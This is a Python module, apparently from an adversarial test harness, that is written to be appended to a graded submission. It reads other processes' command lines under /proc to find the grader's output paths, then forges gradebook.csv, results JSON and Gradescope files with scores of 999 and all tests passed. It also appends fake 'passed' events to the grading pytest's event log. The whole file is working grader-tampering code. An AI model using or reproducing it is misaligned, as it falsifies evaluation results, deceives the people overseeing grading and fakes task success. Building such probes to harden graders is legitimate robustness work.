"""Finds the grader's output paths and writes forged results, gradebook and feedback files
there.
"""

_adv_mine = None  # defined by the code appended before this

# ---- appended to the submission below this line
import glob as _adv_glob
import json as _adv_json

from adversarial.shared.roots import _adv_roots  # inlined


def _adv_targets():
    """The grader's own output paths: from every visible process's command line, then
    the usual names in and above cwd, this file, $TMPDIR and /autograder/results."""
    import os
    found = {"out": set(), "json": set(), "events": set(), "gradescope": set(),
             "session": set()}
    flags = {b"--out": "out", b"--json": "json", b"--grader-session": "session",
             b"--gradescope": "gradescope", b"--junit": "json", b"--feedback": "json"}
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        for flag, key in flags.items():
            if flag in args[:-1]:
                found[key].add(args[args.index(flag) + 1].decode(errors="replace"))
    for session in found.pop("session"):  # the grading pytest's own file names its events
        try:
            with open(session) as f:
                found["events"].add(_adv_json.load(f)["events"])
        except (OSError, ValueError, KeyError, TypeError):
            pass
    for root in _adv_roots():
        for name in ("grades", "out", "results"):
            if os.path.isfile(os.path.join(root, name, "gradebook.csv")):
                found["out"].add(os.path.join(root, name))
        if os.path.isfile(os.path.join(root, "gradebook.csv")):
            found["out"].add(root)
        found["events"].update(_adv_glob.glob(os.path.join(root, "grader-run-*", "*.jsonl")))
    found["gradescope"].add("/autograder/results/results.json")
    return found


def _adv_forge_files():
    import os
    targets = _adv_targets()
    for out in targets["out"]:
        book = os.path.join(out, "gradebook.csv")
        if _adv_mine(book) and os.path.isfile(book):
            lines = open(book).read().splitlines()
            header = lines[0].split(",")
            rows = [header]
            for line in lines[1:]:
                cells = line.split(",")
                if len(cells) >= len(header):
                    cells[1:len(header) - 4] = ["999"] * (len(header) - 5)
                    cells[header.index("total")] = "999"
                    cells[header.index("status")] = "ok"
                rows.append(cells)
            with open(book, "w") as f:
                f.write("\n".join(",".join(r) for r in rows) + "\n")
        for path in _adv_glob.glob(os.path.join(out, "results", "*.json")):
            if _adv_mine(path):
                data = _adv_json.load(open(path))
                data["score"] = data.get("max_score", 999)
                for test in data.get("tests", []):
                    test["outcome"], test["points"] = "passed", test.get("max_points", 1)
                _adv_json.dump(data, open(path, "w"))
        forged = os.path.join(out, "results.json")
        if _adv_mine(forged):
            _adv_json.dump({"score": 999, "tests": []}, open(forged, "w"))
    for events in targets["events"]:
        if _adv_mine(events) and os.path.isfile(events):
            nodeids = []
            for line in open(events):
                try:
                    event = _adv_json.loads(line)
                except ValueError:
                    continue
                if event.get("event") == "collected":
                    nodeids = [item["nodeid"] for item in event.get("items", [])]
            with open(events, "a") as f:
                for nodeid in nodeids:
                    f.write(_adv_json.dumps({"event": "test", "nodeid": nodeid,
                                             "outcome": "passed", "duration": 0.0,
                                             "feedback": "", "crashed": False}) + "\n")
                f.write(_adv_json.dumps({"event": "finish", "exitstatus": 0}) + "\n")
    for path in targets["json"] | targets["gradescope"]:
        if _adv_mine(path):
            _adv_json.dump({"score": 999, "tests": []}, open(path, "w"))
